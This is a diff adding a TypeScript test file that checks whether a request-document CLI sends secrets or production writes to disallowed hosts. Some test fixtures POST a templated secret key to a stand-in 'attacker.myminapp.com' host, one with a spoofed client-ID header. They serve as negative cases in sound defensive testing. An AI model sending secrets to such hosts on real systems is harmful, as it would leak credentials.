@@ -1,0 +1,76 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'mocha';
+import { useServer } from '../requests/server';
+import { useProgram } from './program';
+
+const secret = 'hush "hush" & s3cret/value+1';
+const production = /It would go to production, which needs --allow-production\./;
+const offline = {
+  NODE_OPTIONS: `--import=${new URL('./offline.mjs', import.meta.url).href}`,
+  HYDROGEN_SECRET_KEY: secret,
+  HYDROGEN_ALLOW_HOSTS: '',
+};
+
+describe('a document that names addresses of the service', () => {
+  const { settings, write, run } = useProgram();
+
+  describe('for an application on a host of the service', () => {
+    const own = 'https://client-1.myminapp.com';
+    const other = 'https://attacker.myminapp.com';
+    const header = 'X-Hydrogen-Client-ID: attacker\n';
+    const gets = (host: string) => new RegExp(`It was not sent, because .* would go to ${host}\\.`);
+    const noNetwork = (host: string) => new RegExp(`no network for ${host}`);
+    const allowed = ['--allow-host', 'attacker.myminapp.com', '--allow-production'];
+    const staging = ['--env', 'Staging'];
+    const cases: [name: string, document: string, args: string[], code: number, says: RegExp][] = [
+      ['a secret', `POST ${other}/a/\n${header}\n{{$secret key}}`, staging, 2, gets('attacker.myminapp.com')],
+      ['a secret of a sandbox', `POST ${other}/a/\n\n{{$secret key}}`, ['--sandbox'], 2, gets('attacker.myminapp.com')],
+      ['a secret', 'POST https://cloud.minapp.com/a/\n\n{{$secret key}}', ['--sandbox'], 2, gets('cloud.minapp.com')],
+      ['a write', `DELETE ${other}/a/`, staging, 2, production],
+      ['a write of a sandbox', `DELETE ${own}/a/`, ['--sandbox'], 2, production],
+      ['a write by http', `DELETE ${own.replace('https', 'http')}./a/`, staging, 2, production],
+    ];
+    const sent: typeof cases = [
+      ['the own host', `POST ${own}/a/\n\n{{$secret key}}`, staging, 3, noNetwork('client-1.myminapp.com')],
+      ['the Open API', 'GET /oserve/v1/table/', staging, 3, noNetwork('cloud.minapp.com')],
+      ['an allowed host', `POST ${other}/a/\n\n{{$secret key}}`, [...staging, ...allowed], 3, noNetwork('attacker')],
+    ];
+    const env = { ...offline, HYDROGEN_CLIENT_ID: 'client-1' };
+    for (const [name, document, args, code, says] of [...cases, ...sent]) {
+      it(`${code === 2 ? 'does not send' : 'sends to'} ${name}: ${args.join(' ')}`, async () => {
+        await settings({ serverDomain: own });
+        await write('a.hydrogen.http', document);
+        const ran = await run(args, { ...env, HYDROGEN_CLIENT_SECRET: secret });
+        assert.equal(ran.code, code, ran.out + ran.errors);
+        assert.match(ran.out + ran.errors, says);
+        if (code === 2) assert.doesNotMatch(ran.errors, /no network/);
+      });
+    }
+  });
+
+  describe('for an application on a host of its own', () => {
+    const own = useServer();
+    const other = useServer();
+    const host = 'https://baas.example.com';
+    const cases: [name: string, document: string, args: string[], says: RegExp][] = [
+      ['a write by http', 'DELETE http://baas.example.com/hserve/v1/a/', [], production],
+      ['a write to another port', 'DELETE https://baas.example.com.:8443/hserve/v1/a/', [], production],
+    ];
+    for (const [name, document, args, says] of cases) {
+      it(`does not send ${name}`, async () => {
+        await settings({ serverDomain: host, authUrl: host });
+        await write('a.hydrogen.http', document);
+        const { code, out, errors } = await run(['--env', 'Staging', ...args], offline);
+        assert.equal(code, 2, out + errors);
+        assert.match(out + errors, says);
+        assert.doesNotMatch(errors, /no network/);
+      });
+    }
+
+    it('sends to another port of this machine', async () => {
+      await settings({ serverDomain: own.origin, authUrl: own.origin });
+      await write('a.hydrogen.http', `DELETE ${other.origin}/`);
+      assert.equal((await run(['--env', 'Staging'], offline)).code, 0);
+    });
+  });
+});
